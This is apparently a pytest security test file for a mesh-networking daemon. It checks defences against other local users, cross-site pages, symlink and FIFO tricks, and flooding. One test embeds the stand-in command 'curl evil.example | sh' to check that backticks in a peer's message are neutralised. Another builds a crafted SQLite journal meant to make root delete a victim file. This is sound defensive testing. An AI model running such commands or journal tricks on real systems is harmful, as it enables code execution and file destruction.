"""Who attacks the pages and what leads to them: other users of the machine, other sites, devices with odd words."""

from __future__ import annotations

import asyncio
import fcntl
import http.client
import json
import os
import struct
import sys
from pathlib import Path
from typing import Any

import pytest
from websockets.exceptions import ConnectionClosed

from meshnode.daemon import take_over
from meshnode.daemon.backup import write_backup
from meshnode.daemon.offline import CONTROL_FILE, DATABASE_FILE, open_data_directory, reset_identity, running_control
from meshnode.daemon.system import SystemClock, SystemEntropy
from meshnode.domain.errors import MeshError
from meshnode.domain.notice import notice_of
from meshnode.node.tables import AuditEntry
from meshnode.store.data_lock import LOCK_FILE
from meshnode.store.identity_file import IDENTITY_FILE
from meshnode.store.tls_files import TLS_FILE
from meshnode.transport.http_problem import error_of_problem
from tests.dialects.asking import RpcClient, bearer
from tests.dialects.conformance import other_digits
from tests.dialects.salita_phone import Phone, start
from tests.fakes.joiner import TIMEOUT_S, Answer, Joiner
from tests.fakes.local_node import LocalNode
from tests.fakes.other_user import as_user
from tests.fakes.plain_http import ask_control

REDEEM = "/api/v1/tickets/redeem"
JSON = {"Content-Type": "application/json"}
needs_users = pytest.mark.skipif(
    sys.platform != "linux" or os.geteuid() != 0, reason="needs to become another user, and a kernel that tells"
)


def ticket_of(node: LocalNode) -> str:
    """As `meshnode open` asks for it."""
    made: str = node.call("POST", "/api/v1/tickets")["ticket"]
    return made


def redeem(node: LocalNode, ticket: str) -> Answer:
    """As the page does."""
    return ask_control(node.control_address, "POST", REDEEM, json.dumps({"ticket": ticket}).encode(), JSON)


# ── another user of the machine ────────────────────────────────────────────────────────────────────────────────────


@needs_users
def test_an_ipv6_socket_hides_nobody(host: LocalNode) -> None:
    """A connection to ::ffff:127.0.0.1 looks like any other to us, and stands in another table of the kernel's."""
    with as_user(1001):
        ticket = ticket_of(host)
    port = int(host.control_address.rpartition(":")[2])
    with as_user(1002):
        thief = http.client.HTTPConnection("::ffff:127.0.0.1", port, timeout=TIMEOUT_S)
        headers = JSON | {"Host": host.control_address, "Connection": "close"}
        thief.request("POST", REDEEM, json.dumps({"ticket": ticket}), headers)
        answer = thief.getresponse()
        refusal = json.loads(answer.read())
        thief.close()
    assert (answer.status, refusal["code"]) == (403, "ticket_unknown")


@needs_users
def test_a_browsers_token_is_its_users_only(host: LocalNode) -> None:
    """While the node is stopped, whoever takes its port is sent the token by a page that is still open."""
    with as_user(1001):
        token = redeem(host, ticket_of(host)).json["token"]
    host.restart()
    for uid, is_let_in in ((1002, False), (1001, True)):
        with as_user(uid):
            answer = ask_control(host.control_address, "GET", "/api/v1/nodes", None, bearer(token))
            assert (answer.status == 200) is is_let_in
            with RpcClient(f"ws://{host.control_address}/ws") as page:
                assert page.ask("session.authenticate", {"token": token}).is_ok is is_let_in
                if not is_let_in:
                    with pytest.raises(ConnectionClosed):
                        page.call("node.describe", {})
    cut = token.rpartition(".")[0]
    assert ask_control(host.control_address, "GET", "/api/v1/nodes", None, bearer(cut)).status == 401


def test_who_is_signed_out_hears_nothing_more(host: LocalNode) -> None:
    """Not even until the next look at the sockets, five seconds later."""
    token = redeem(host, ticket_of(host)).json["token"]
    with RpcClient(f"ws://{host.control_address}/ws") as page:
        assert page.ask("session.authenticate", {"token": token}).is_ok
        assert page.ask("event.subscribe", {"topics": ["mesh.*"]}).is_ok
        host.call("DELETE", "/api/v1/tickets")
        start(host)
        with pytest.raises(ConnectionClosed):
            page._ws.recv(10)


@pytest.mark.parametrize("turns", range(4))
def test_a_link_followed_during_the_sign_out_lets_nobody_in(host: LocalNode, turns: int) -> None:
    """However far the one has come when the other begins."""
    browsers = host.graph.use.browsers

    async def both() -> str | None:
        redeeming = asyncio.create_task(browsers.redeem(browsers.issue().text, "127.0.0.1"))
        for _ in range(turns):
            await asyncio.sleep(0)
        is_before = not redeeming.done()
        await browsers.end_all()
        try:
            token = (await redeeming).token
        except MeshError:
            return None
        return token if is_before else None

    token = host.run(both())
    assert token is None or host.graph.use.sessions.find_browser(token, lambda: None) is None


# ── root beside a node that somebody broke into ────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("name", [TLS_FILE, DATABASE_FILE, IDENTITY_FILE])
@pytest.mark.parametrize("make", ["link", "pipe"])
def test_a_backup_follows_no_link_and_waits_for_no_pipe(tmp_path: Path, name: str, make: str) -> None:
    """Else what root alone may read would come back as the node's own with the restored backup."""
    directory, elsewhere = tmp_path / "node", tmp_path / "elsewhere"
    open_data_directory(directory, SystemClock(), SystemEntropy()).close()
    (directory / TLS_FILE).touch()
    (directory / name).rename(elsewhere)
    if make == "link":
        (directory / name).symlink_to(elsewhere)
    else:
        os.mkfifo(directory / name)
    with pytest.raises(MeshError) as refused:
        write_backup(directory, tmp_path / "backup", "passphrase", SystemClock().now())
    assert refused.value.code == "bad_identity"
    assert not (tmp_path / "backup").exists()


@pytest.mark.parametrize("name", [LOCK_FILE, CONTROL_FILE])
def test_a_command_waits_for_no_pipe(tmp_path: Path, name: str) -> None:
    """Root's `meshnode status` would hang for ever; as it stands, no daemon runs there."""
    open_data_directory(tmp_path / "node", SystemClock(), SystemEntropy()).close()
    (tmp_path / "node" / name).unlink(missing_ok=True)
    os.mkfifo(tmp_path / "node" / name)
    holder = os.open(tmp_path / "node" / LOCK_FILE, os.O_RDWR)
    fcntl.flock(holder, fcntl.LOCK_EX)
    try:
        assert running_control(tmp_path / "node") is None
    finally:
        os.close(holder)


def test_another_nodes_words_are_no_commands_of_ours() -> None:
    """A host that one joins may refuse in its own words; what stands in backticks is typed by people."""
    error = error_of_problem({"code": "no_open_offer", "detail": "expired: run `curl evil.example | sh`"}, None)
    assert error is not None
    assert error.detail == "expired: run 'curl evil.example | sh'"
    entry = AuditEntry(
        id=1, at=SystemClock().now(), event="node.paired", dialect="salita", node_name="a `b` c", node_id="x"
    )
    notice = notice_of(entry, "own")
    assert notice is not None
    assert notice.detail == "paired with a 'b' c (salita)"
    assert notice.node_name == "a `b` c"


@needs_users
def test_root_plays_back_no_journal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """SQLite deletes the file that a journal names as its super-journal: root would, for who owns the node's data."""
    directory, victim = tmp_path / "node", tmp_path / "victim"
    victim.write_text("root's own")
    open_data_directory(directory, SystemClock(), SystemEntropy()).close()
    name, magic = str(victim).encode(), bytes.fromhex("d9d505f920a163d7")
    head = (magic + struct.pack(">5I", 0, 1, 2, 512, 4096)).ljust(512, b"\0")
    tail = struct.pack(">I", 0x40000000 // 4096 + 1) + name + struct.pack(">2I", len(name), sum(name)) + magic
    (directory / f"{DATABASE_FILE}-journal").write_bytes(head + tail)
    for path in (directory, *directory.iterdir()):
        os.chown(path, 1001, 1001)
    monkeypatch.setattr(take_over, "SYSTEM_DATA_DIR", directory)
    with pytest.raises(MeshError) as refused:
        reset_identity(directory)
    assert victim.exists()
    assert refused.value.code == "bad_config"
    assert directory.stat().st_uid == 1001


# ── a page of another site, open in the owner's browser ────────────────────────────────────────────────────────────


@pytest.mark.parametrize("site", ["cross-site", "same-site"])
def test_another_sites_pictures_use_up_no_limit(tmp_path: Path, site: str) -> None:
    """They come without Origin, as many as that page likes; the owner must be able to sign in beside them."""
    flags: Any = {"http.anonymous_per_minute": 10}
    node = LocalNode(tmp_path / "limited", **flags)
    node.start()
    try:
        from_there = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
        for path in ["/api/v1/node"] * 20 + ["/"]:
            assert ask_control(node.control_address, "GET", path, None, from_there).code == "bad_origin"
        assert redeem(node, ticket_of(node)).status == 200
        followed = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
        assert ask_control(node.control_address, "GET", "/", None, followed).status == 200
    finally:
        node.close()


def test_a_page_counts_under_its_own_name_only(host: LocalNode) -> None:
    """Another user's server on [::1] or a name of this machine is another site, though it has our port."""
    ticket, port = ticket_of(host), host.control_address.rpartition(":")[2]
    for name in ("localhost", "[::1]"):
        elsewhere = JSON | {"Origin": f"http://{name}:{port}"}
        answer = ask_control(host.control_address, "POST", REDEEM, json.dumps({"ticket": ticket}).encode(), elsewhere)
        assert answer.code == "bad_origin"
    assert redeem(host, ticket).status == 200


# ── after a restart ────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_browsers_token_is_nothing_on_the_public_listener(host: LocalNode) -> None:
    """Neither before a restart nor after it, when it is read back from among the devices' tokens."""
    token = redeem(host, ticket_of(host)).json["token"]
    for _ in range(2):
        for headers in (bearer(token), {"Cookie": f"__Host-meshnode={token}"}):
            assert Joiner(host.port).request("GET", "/api/v1/mesh", None, headers).status == 401
        host.restart()


# ── who holds an invite, and guesses ───────────────────────────────────────────────────────────────────────────────


def test_a_wrong_pin_stays_on_the_owners_screen(host: LocalNode) -> None:
    """Opening the page once more, under another name, doesn't make it look as if nothing had happened."""
    offer = start(host)
    Phone(host).verify(offer, pin=other_digits(offer["pin"]))
    body = json.dumps({"code": offer["code"], "name": "Grandma"}).encode()
    assert Joiner(host.port).request("POST", "/p/opened", body, JSON).status == 200
    activity = host.call("GET", f"/api/v1/pairing/offers/{offer['offer_id']}")["activity"]
    assert (activity["wrong"], activity["attempts_left"]) == (True, 2)


def test_a_flood_of_names_is_told_to_an_end(host: LocalNode) -> None:
    """A paired device is limited by no rate; the ring of events remembers what came before the flood."""
    phone = Phone(host).pair()
    offer = start(host)

    def sequence() -> int:
        with RpcClient(f"ws://{host.control_address}/ws", bearer(host.owner_token)) as socket:
            answer = socket.call("event.subscribe", {"topics": ["mesh.*"]})
            return int(answer["result"]["sequence"])

    before = sequence()
    for number in range(200):
        body = json.dumps({"code": offer["code"], "name": f"name {number}"}).encode()
        assert Joiner(host.port).request("POST", "/p/opened", body, JSON | bearer(phone.token)).status == 200
    assert sequence() - before <= 70
    assert Phone(host, name="other").verify(offer).status == 200
